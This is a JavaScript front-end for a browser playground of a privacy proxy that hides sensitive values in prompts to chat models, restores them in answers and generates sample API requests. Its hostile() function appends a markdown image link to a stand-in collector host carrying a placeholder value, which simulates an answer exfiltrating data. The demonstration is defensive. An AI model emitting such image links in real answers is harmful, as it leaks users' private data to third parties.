// Loads everything, forbids every further connection, and then shows what the worker's Python says.
import { SAMPLES } from "./samples.js";

const at = (id) => document.getElementById(id);
const SCRIPTS = /\.m?js$/;
const PYTHON = "pyodide.asm.wasm";
const KEPT = {
  rule: "Left in clear: the rule of its type keeps it.",
  min_score: "Left in clear: its score is too low.",
  allow_list: "Left in clear: the allow list of the policy has it.",
  correction: "Left in clear: you allowed it.",
};
const SHORT = 250;
let worker, asked = 0, shown = null, sent = null, timer, answerEdited = false;
const waiting = new Map(), allow = new Set(), deny = [], rules = new Map();

function say(step) { at("step").textContent = step; }

async function load() {
  const assets = JSON.parse(at("assets").textContent);
  const total = assets.reduce((sum, each) => sum + each.size, 0);
  let done = 0;
  const files = {}, sources = {};
  let python;
  await Promise.all(assets.map(async ({ name, size, integrity }) => {
    const response = await fetch(name, { integrity, credentials: "omit" });
    if (!response.ok) throw new Error(`${name} is missing.`);
    if (name === PYTHON) python = await compiled(response);
    else if (SCRIPTS.test(name)) sources[name] = await response.text();
    else files[name] = await response.arrayBuffer();
    done += size;
    at("progress").value = 60 * done / total;
  }));
  const policy = document.createElement("meta");
  policy.httpEquiv = "content-security-policy";
  policy.content = "connect-src 'none'; form-action 'none'; frame-src 'none'";
  document.head.append(policy);
  const script = new Blob([sources["worker.js"]], { type: "text/javascript" });
  worker = new Worker(URL.createObjectURL(script), { type: "module" });
  worker.onmessage = ({ data }) => receive(data);
  worker.onerror = () => fail("The worker did not start.");
  worker.postMessage({ files, sources, python }, Object.values(files));
}

// While it arrives, and with the browser's cache of compiled code, if the server names the type.
async function compiled(response) {
  if (response.headers.get("content-type") === "application/wasm") return WebAssembly.compileStreaming(response);
  return WebAssembly.compile(await response.arrayBuffer());
}

function receive(data) {
  if (data.step) { say(data.step); at("progress").value = Math.min(98, at("progress").value + 9); }
  else if (data.failed) fail(data.failed);
  else if (data.ready) ready(data.ready);
  else {
    const { resolve, reject } = waiting.get(data.id);
    waiting.delete(data.id);
    if (data.error) reject(new Error(data.error)); else resolve(data.result);
  }
}

function fail(reason) { say(`The playground could not be loaded. Reload the page to try again. (${reason})`); }

function ask(method, ...args) {
  return new Promise((resolve, reject) => {
    waiting.set(++asked, { resolve, reject });
    worker.postMessage({ id: asked, method, args });
  });
}

function ready(policies) {
  at("sample").append(...Object.keys(SAMPLES).map((name) => new Option(name)));
  at("policy").append(...policies.map((each) => Object.assign(new Option(each.title, each.id), { about: each.description })));
  at("text").value = Object.values(SAMPLES)[0];
  at("loading").hidden = true;
  at("work").hidden = false;
  listen();
  protect();
}

function listen() {
  at("text").addEventListener("input", () => { clearTimeout(timer); timer = setTimeout(protect, SHORT); });
  at("sample").addEventListener("change", () => { at("text").value = SAMPLES[at("sample").value]; restart(); });
  at("policy").addEventListener("change", protect);
  at("strict").addEventListener("change", protect);
  at("answer").addEventListener("input", () => { answerEdited = true; restore(); });
  at("plain").addEventListener("click", () => { answerEdited = false; at("answer").value = sent.answer; restore(); });
  at("hostile").addEventListener("click", hostile);
  at("hide").addEventListener("click", hideSelection);
  at("reset").addEventListener("click", () => { rules.clear(); restart(); });
  at("copy-toml").addEventListener("click", () => copy(toml(), "The policy is copied."));
  for (const button of document.querySelectorAll("[data-copy]")) {
    button.addEventListener("click", () => copy(REQUESTS[button.dataset.copy](), "The request is copied, with your text. Put your key in."));
  }
  for (const type of ["mouseover", "mouseout", "focusin", "focusout"]) {
    document.addEventListener(type, ({ target }) => link(type.endsWith("over") || type === "focusin" ? target.closest?.("[data-finding]") : null));
  }
}

function restart() {
  allow.clear();
  deny.length = 0;
  shown = null;
  answerEdited = false;
  at("details").replaceChildren(note("Select a mark, or choose from the list."));
  protect();
}

async function protect() {
  const option = at("policy").selectedOptions[0];
  at("about-policy").textContent = option.about;
  at("toml").textContent = toml();
  const mode = at("strict").checked ? "strict" : "standard";
  const order = ++protect.order;
  try {
    let policy = option.value;
    if (rules.size) { await ask("use_own", toml()); policy = "own"; }
    const result = await ask("protect", at("text").value, policy, mode, [...allow], deny);
    if (order !== protect.order) return;
    await show(result);
    at("work").dataset.shown = order;
  } catch (error) {
    at("said").textContent = error.message;
  }
}
protect.order = 0;

async function show(result) {
  sent = result;
  at("wrote").replaceChildren(...result.source.map(piece));
  at("received").replaceChildren(...(result.blocked ? [note(`Nothing would leave. ${result.blocked}`)] : result.protected.map(piece)));
  const hidden = result.findings.filter((each) => !each.kept).length;
  at("said").textContent = result.blocked ?? `${hidden} hidden, ${result.findings.length - hidden} found and left in clear.`;
  at("findings").replaceChildren(...result.findings.map(listed));
  if (!answerEdited) at("answer").value = result.answer;
  await restore();
}

async function restore() {
  const { pieces, withheld, unknown } = await ask("restore", at("answer").value);
  at("back").replaceChildren(...pieces.map(piece));
  at("closed").textContent = [
    withheld.length ? `${withheld.length} stayed closed: the address is none that you wrote.` : "",
    unknown.length ? `${unknown.length} unknown: no placeholder of this text, so it never opens.` : "",
  ].join(" ").trim();
}

function piece({ text, finding, kind }) {
  if (!kind) return document.createTextNode(text);
  const about = finding >= 0 ? sent.findings[finding] : null;
  const label = about && kind !== "placeholder" ? about.type : { closed: "CLOSED", unknown: "UNKNOWN" }[kind] ?? "";
  const mark = document.createElement(about ? "button" : "span");
  if (about) Object.assign(mark, { type: "button", onclick: () => explain(about) });
  mark.className = `mark ${kind}`;
  mark.dataset.finding = finding;
  mark.append(text);
  if (label || kind === "closed") {
    const type = document.createElement("span");
    type.className = "type";
    type.textContent = kind === "kept" ? `${label} (in clear)` : kind === "closed" ? "CLOSED" : label;
    mark.append(type);
  }
  return mark;
}

function listed(one) {
  const item = document.createElement("li"), open = document.createElement("button");
  open.type = "button";
  open.dataset.finding = one.number;
  open.textContent = `${one.type}: ${one.value}`;
  open.onclick = () => explain(one);
  item.append(open, ` ${one.kept ? "left in clear" : one.action === "block" ? "blocked" : `hidden (${one.action})`}`);
  return item;
}

function explain(one) {
  shown = one;
  const list = document.createElement("dl");
  const rows = {
    Type: `${one.type} (${one.group}). ${one.about}`,
    Why: `${one.why}${one.kept ? ` ${KEPT[one.kept]}` : ""}`,
    Found: `by ${one.recognizer}, score ${one.score.toFixed(2)}`,
    Settings: one.settings.length ? `${one.settings.join(", ")} would change it` : "none changes it",
  };
  for (const [name, text] of Object.entries(rows)) {
    const term = document.createElement("dt"), said = document.createElement("dd");
    term.textContent = name;
    said.textContent = text;
    list.append(term, said);
  }
  const title = document.createElement("h3");
  title.textContent = one.value;
  const row = document.createElement("div");
  row.className = "row";
  if (one.kept) row.append(button("Hide this word", () => { allow.delete(one.value); deny.push({ type: one.type, value: one.value }); protect(); }));
  else if (one.settings.includes("svc_allow")) row.append(button("Leave this word in clear", () => { allow.add(one.value); protect(); }));
  else if (one.settings.includes("svc_deny")) row.append(button("No longer hide this word", () => { deny.splice(0, deny.length, ...deny.filter((each) => each.value !== one.value)); protect(); }));
  else row.append(note("The policy lets no caller leave this word in clear."));
  for (const action of ["placeholder", "mask", "redact", "keep", "block"]) {
    if (action !== (one.kept ? "keep" : one.action)) row.append(button(`Every ${one.type}: ${action}`, () => { rules.set(one.type, action); protect(); }));
  }
  at("details").replaceChildren(title, list, row);
}

function button(text, act) {
  return Object.assign(document.createElement("button"), { type: "button", textContent: text, onclick: act });
}

function note(text) {
  return Object.assign(document.createElement("p"), { className: "note", textContent: text });
}

function link(mark) {
  for (const each of document.querySelectorAll(".linked")) each.classList.remove("linked");
  if (!mark || mark.dataset.finding < 0) return;
  for (const each of document.querySelectorAll(`.mark[data-finding="${mark.dataset.finding}"]`)) each.classList.add("linked");
}

function hideSelection() {
  const chosen = getSelection();
  const value = chosen.toString().trim();
  if (!value || !at("wrote").contains(chosen.anchorNode)) {
    at("said").textContent = "Select the words to hide in “You wrote” first.";
    return;
  }
  deny.push({ type: "CUSTOM", value });
  protect();
}

function hostile() {
  const first = sent.protected.find((each) => each.kind === "placeholder");
  if (!first) return;
  answerEdited = true;
  at("answer").value += `\n\n![status](https://collector.example/pixel.png?d=${first.text})`;
  restore();
}

const base = "http://127.0.0.1:8000/v1";
const corrections = () => ({ ...(allow.size ? { svc_allow: [...allow] } : {}), ...(deny.length ? { svc_deny: deny } : {}) });
const body = () => ({
  model: "svc-demo",
  messages: [{ role: "user", content: at("text").value }],
  svc_policy: at("policy").value,
  ...(at("strict").checked ? { svc_privacy_mode: "strict" } : {}),
  ...corrections(),
});
const REQUESTS = {
  curl: () => `curl -s ${base}/chat/completions -H "Authorization: Bearer $KEY" -H 'Content-Type: application/json' --data-binary @- <<'JSON'\n${JSON.stringify(body(), null, 2)}\nJSON\n`,
  python: () => {
    const { model, messages, ...extra } = body();
    return `import json, os\n\nfrom openai import OpenAI\n\nclient = OpenAI(base_url="${base}", api_key=os.environ["KEY"])\nanswer = client.chat.completions.create(\n    model="${model}",\n    messages=json.loads(${JSON.stringify(JSON.stringify(messages))}),\n    extra_body=json.loads(${JSON.stringify(JSON.stringify(extra))}),\n)\nprint(answer.choices[0].message.content)\n`;
  },
  typescript: () => `import OpenAI from "openai";\n\nconst client = new OpenAI({ baseURL: "${base}", apiKey: process.env.KEY });\nconst answer = await client.chat.completions.create(${JSON.stringify(body(), null, 2)} as OpenAI.ChatCompletionCreateParamsNonStreaming);\nconsole.log(answer.choices[0].message.content);\n`,
};

function toml() {
  const lines = [`id = "my-policy"`, `title = "My policy"`, `extends = "${at("policy").value}"`];
  for (const [type, action] of [...rules].sort()) lines.push("", `[rules.${type}]`, `action = "${action}"`);
  return `${lines.join("\n")}\n`;
}

async function copy(text, done) {
  try {
    await navigator.clipboard.writeText(text);
    at("said").textContent = done;
  } catch {
    at("said").textContent = "The browser does not let the page copy. Use https or localhost.";
  }
}

load().catch((error) => fail(error.message));
